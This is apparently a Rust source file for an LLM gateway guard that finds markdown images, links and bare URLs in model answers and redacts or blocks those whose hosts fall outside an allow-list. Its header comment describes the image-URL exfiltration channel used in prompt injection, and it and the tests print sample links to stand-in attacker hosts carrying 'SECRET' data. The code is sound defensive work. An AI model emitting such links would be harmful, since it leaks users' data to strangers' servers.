//! Links in answers that point outside an allow-list: a markdown image the chat UI fetches by
//! itself (`![x](https://evil.example/?q=SECRET)`) carries whatever the model was tricked into
//! putting in its URL to a stranger's server — the classic exfiltration channel. This guard
//! finds markdown images and links and bare `http(s)://` URLs in the answer and removes (or
//! refuses) those whose host is not allowed.
//!
//! On a stream it judges windows: a link that runs to the end of a window that is not the last
//! is left for a later window (the stream scanner holds an unfinished link back, see
//! `portcullis_core::open_link`), so a link split across chunks is judged whole.

use portcullis_core::{ApiError, Context, Edit, Finding, Guard, GuardError, Output, Verdict};
use serde::Deserialize;
use std::ops::Range;

/// What to do with a link to a host that is not allowed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkAction {
    /// Replace the link (the whole markdown image or link) with [`REMOVED`].
    #[default]
    Redact,
    /// Withhold the answer.
    Block,
}

/// `[output.links]`: which hosts answers may link to.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct LinksConfig {
    /// Judge links in answers at all.
    pub enabled: bool,
    /// Hosts links may point to: `example.com` is that host only, `*.corp.internal` any
    /// host below it. Empty: no absolute link is allowed.
    pub allow: Vec<String>,
    /// `redact` (default) or `block`.
    pub action: LinkAction,
}

/// What a removed link is replaced with.
pub const REMOVED: &str = "[link removed]";

/// The allow-list, parsed once.
#[derive(Debug, Clone)]
struct AllowList {
    exact: Vec<String>,
    suffixes: Vec<String>,
}

impl AllowList {
    fn new(patterns: &[String]) -> Result<AllowList, crate::ConfigError> {
        let mut list = AllowList {
            exact: Vec::new(),
            suffixes: Vec::new(),
        };
        for p in patterns {
            let p = p.trim().trim_end_matches('.').to_ascii_lowercase();
            if let Some(rest) = p.strip_prefix("*.") {
                if rest.is_empty() || rest.contains('*') {
                    return Err(bad_pattern(&p));
                }
                list.suffixes.push(format!(".{rest}"));
            } else if p.is_empty() || p.contains(['*', '/', ':', ' ']) {
                return Err(bad_pattern(&p));
            } else {
                list.exact.push(p);
            }
        }
        Ok(list)
    }

    fn allows(&self, host: &str) -> bool {
        self.exact.iter().any(|h| h == host) || self.suffixes.iter().any(|s| host.ends_with(s))
    }
}

fn bad_pattern(p: &str) -> crate::ConfigError {
    crate::ConfigError(format!(
        "output.links.allow: '{p}' is not a host; write 'example.com' or '*.example.com'"
    ))
}

/// A link found in text: where it is (the whole construct) and the host it points to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Link {
    /// Byte range of the whole markdown image or link, or of the bare URL.
    pub span: Range<usize>,
    /// Lower-cased host, without port or user.
    pub host: String,
    /// A markdown image (fetched by the viewer without a click).
    pub image: bool,
    /// The text ran out before the link ended (a stream window that is not the last).
    pub open: bool,
}

/// Finds markdown images and links and bare URLs with a host in `text`.
pub fn find_links(text: &str) -> Vec<Link> {
    let mut out: Vec<Link> = Vec::new();
    let mut from = 0;
    while let Some(at) = text[from..].find("](").map(|i| from + i) {
        from = at + 2;
        let Some(open) = text[..at].rfind('[') else {
            continue;
        };
        let image = open > 0 && text.as_bytes()[open - 1] == b'!';
        let start = if image { open - 1 } else { open };
        let (target, end, closed) = markdown_target(text, at + 2);
        let Some(host) = host_of(target) else {
            continue;
        };
        out.push(Link {
            span: start..end,
            host,
            image,
            open: !closed,
        });
        from = end.max(from);
    }
    for (at, _) in text.match_indices("://") {
        let scheme_start = text[..at]
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || "+-.".contains(*c))
            .last()
            .map_or(at, |(i, _)| i);
        if scheme_start == at || out.iter().any(|l| l.span.contains(&at)) {
            continue;
        }
        let (end, closed) = bare_end(text, at);
        let Some(host) = host_of(&text[scheme_start..end]) else {
            continue;
        };
        out.push(Link {
            span: scheme_start..end,
            host,
            image: false,
            open: !closed,
        });
    }
    out.sort_by_key(|l| l.span.start);
    out
}

/// The target of a markdown link starting at `from` (just after `](`), the end of the whole
/// construct, and whether its `)` was seen.
fn markdown_target(text: &str, from: usize) -> (&str, usize, bool) {
    let rest = &text[from..];
    let lead = rest.len() - rest.trim_start().len();
    let body = &rest[lead..];
    let (target, after) = if let Some(inner) = body.strip_prefix('<') {
        match inner.find('>') {
            Some(e) => (&inner[..e], lead + 1 + e + 1),
            None => (inner, rest.len()),
        }
    } else {
        let mut depth = 0usize;
        let mut end = body.len();
        for (i, c) in body.char_indices() {
            match c {
                '(' => depth += 1,
                ')' if depth == 0 => {
                    end = i;
                    break;
                }
                ')' => depth -= 1,
                c if c.is_whitespace() => {
                    end = i;
                    break;
                }
                _ => {}
            }
        }
        (&body[..end], lead + end)
    };
    // An optional title, then the closing parenthesis.
    match rest[after..].find(')') {
        Some(close) => (target, from + after + close + 1, true),
        None => (target, text.len(), false),
    }
}

/// Where a bare URL whose `://` is at `at` ends, and whether something ended it.
fn bare_end(text: &str, at: usize) -> (usize, bool) {
    let mut depth = 0usize;
    let mut end = text.len();
    let mut closed = false;
    for (i, c) in text[at + 3..].char_indices() {
        let stop = match c {
            '(' => {
                depth += 1;
                false
            }
            ')' if depth == 0 => true,
            ')' => {
                depth -= 1;
                false
            }
            '<' | '>' | '"' | '\'' | '`' | '[' | ']' | '{' | '}' | '|' | '\\' | '^' => true,
            c => c.is_whitespace(),
        };
        if stop {
            end = at + 3 + i;
            closed = true;
            break;
        }
    }
    // Sentence punctuation after a URL is not part of it.
    while end > at + 3 && text[..end].ends_with(['.', ',', ';', ':', '!', '?']) {
        end -= 1;
    }
    (end, closed)
}

/// The host of an absolute (or protocol-relative) URL; `None` for a relative one.
fn host_of(url: &str) -> Option<String> {
    let url = url.trim();
    let after = match url.find("://") {
        Some(i) => &url[i + 3..],
        None => url.strip_prefix("//")?,
    };
    let authority = after
        .split(['/', '?', '#', '\\'])
        .next()
        .unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        host_port.split(':').next().unwrap_or_default()
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

/// Removes or refuses links to hosts outside the allow-list.
#[derive(Debug, Clone)]
pub struct LinksGuard {
    enabled: bool,
    allow: AllowList,
    action: LinkAction,
}

impl LinksGuard {
    /// A guard for `config`; errors name the allow-list entry that is not a host.
    pub fn new(config: &LinksConfig) -> Result<LinksGuard, crate::ConfigError> {
        Ok(LinksGuard {
            enabled: config.enabled,
            allow: AllowList::new(&config.allow)?,
            action: config.action,
        })
    }
}

#[async_trait::async_trait]
impl Guard for LinksGuard {
    fn name(&self) -> &str {
        "links"
    }

    async fn check_output(
        &self,
        output: &Output<'_>,
        _ctx: &Context,
    ) -> Result<Verdict, GuardError> {
        if !self.enabled {
            return Ok(Verdict::allow());
        }
        let (floor, last) = output
            .window
            .map_or((0, true), |w| (w.editable_from, w.last));
        let mut edits = Vec::new();
        let mut findings = Vec::new();
        for (i, seg) in output.segments.iter().enumerate() {
            for link in find_links(&seg.text) {
                // Already sent, or not finished yet (a later window sees it whole).
                if link.span.end <= floor || (link.open && !last) {
                    continue;
                }
                if self.allow.allows(&link.host) {
                    continue;
                }
                let kind = if link.image {
                    "external_image"
                } else {
                    "external_link"
                };
                findings.push(Finding::new(kind, "links", 1.0).at(i, link.span.clone()));
                edits.push(Edit::Replace {
                    segment: i,
                    range: link.span.start.max(floor)..link.span.end,
                    with: REMOVED.to_owned(),
                });
            }
        }
        if findings.is_empty() {
            return Ok(Verdict::allow());
        }
        Ok(match self.action {
            LinkAction::Redact => Verdict::transform(edits, findings),
            LinkAction::Block => Verdict::block(
                ApiError::policy(
                    "output_link_blocked",
                    "The model's answer was withheld: it linked to a host outside this gateway's allow-list ([output.links] allow), a way data can leave unnoticed.",
                ),
                findings,
            ),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use portcullis_core::{Action, ChatRequest, Principal, Segment, Source, Window};

    fn guard(action: LinkAction) -> LinksGuard {
        LinksGuard::new(&LinksConfig {
            enabled: true,
            allow: vec!["example.com".into(), "*.corp.internal".into()],
            action,
        })
        .unwrap()
    }

    async fn judge(g: &LinksGuard, text: &str, window: Option<Window>) -> Verdict {
        let req: ChatRequest = serde_json::from_str(r#"{"model":"m","messages":[]}"#).unwrap();
        let segs = [Segment::free(text, Source::Output)];
        let out = Output {
            request: &req,
            segments: &segs,
            window,
        };
        let ctx = Context::new("t", Principal::default());
        g.check_output(&out, &ctx).await.unwrap()
    }

    fn redacted(text: &str, v: &Verdict) -> String {
        let Action::Transform(edits) = &v.action else {
            return text.to_owned();
        };
        let mut s = text.to_owned();
        for e in edits.iter().rev() {
            if let Edit::Replace { range, with, .. } = e {
                s.replace_range(range.clone(), with);
            }
        }
        s
    }

    #[test]
    fn links_images_and_bare_urls_are_found_with_their_hosts() {
        let t = "See ![x](https://Evil.test:8443/p?q=SECRET \"t\") and [docs](<https://example.com/a b>) or https://user@a.corp.internal/x. Relative ![i](/img.png) and //cdn.test/y";
        let links = find_links(t);
        let hosts: Vec<(&str, bool)> = links.iter().map(|l| (l.host.as_str(), l.image)).collect();
        assert_eq!(
            hosts,
            vec![
                ("evil.test", true),
                ("example.com", false),
                ("a.corp.internal", false)
            ]
        );
        assert_eq!(
            &t[links[0].span.clone()],
            "![x](https://Evil.test:8443/p?q=SECRET \"t\")"
        );
        assert_eq!(&t[links[2].span.clone()], "https://user@a.corp.internal/x");
        assert!(links.iter().all(|l| !l.open));
        let open = find_links("look ![x](https://evil.test/?q=abc");
        assert!(open[0].open && open[0].image);
    }

    #[test]
    fn allow_patterns_are_exact_hosts_or_subdomain_wildcards() {
        let a = AllowList::new(&["Example.com.".into(), "*.corp.internal".into()]).unwrap();
        assert!(a.allows("example.com"));
        assert!(!a.allows("www.example.com"), "a bare host is exact");
        assert!(!a.allows("example.com.evil.test"));
        assert!(a.allows("wiki.corp.internal"));
        assert!(
            !a.allows("corp.internal"),
            "the wildcard is for hosts below it"
        );
        assert!(!a.allows("evilcorp.internal"));
        assert!(AllowList::new(&["https://x.com/".into()]).is_err());
        assert!(AllowList::new(&["*.".into()]).is_err());
    }

    #[tokio::test]
    async fn an_outside_image_is_removed_and_allowed_links_kept() {
        let g = guard(LinkAction::Redact);
        let t =
            "Done ![logo](https://evil.test/p.png?d=c2VjcmV0) see [here](https://example.com/x).";
        let v = judge(&g, t, None).await;
        assert_eq!(
            redacted(t, &v),
            "Done [link removed] see [here](https://example.com/x)."
        );
        assert_eq!(v.findings[0].kind, "external_image");
        let clean = judge(&g, "see https://wiki.corp.internal/page", None).await;
        assert_eq!(clean.action, Action::Allow);
    }

    #[tokio::test]
    async fn block_refuses_and_disabled_sees_nothing() {
        let v = judge(
            &guard(LinkAction::Block),
            "go to http://evil.test now",
            None,
        )
        .await;
        assert!(matches!(v.action, Action::Block(ref e) if e.status == 403));
        let off = LinksGuard::new(&LinksConfig::default()).unwrap();
        let v = judge(&off, "![x](https://evil.test/?q=1)", None).await;
        assert_eq!(v.action, Action::Allow);
    }

    #[tokio::test]
    async fn in_a_window_an_unfinished_link_waits_and_sent_links_are_left() {
        let g = guard(LinkAction::Redact);
        let w = |editable_from, last| {
            Some(Window {
                editable_from,
                offset: 0,
                last,
                lane: 0,
            })
        };
        let open = "ok ![x](https://evil.test/?q=SEC";
        assert_eq!(judge(&g, open, w(0, false)).await.action, Action::Allow);
        let v = judge(&g, open, w(0, true)).await;
        assert_eq!(redacted(open, &v), "ok [link removed]");
        let sent = "https://evil.test/a then more";
        assert_eq!(judge(&g, sent, w(19, false)).await.action, Action::Allow);
    }
}
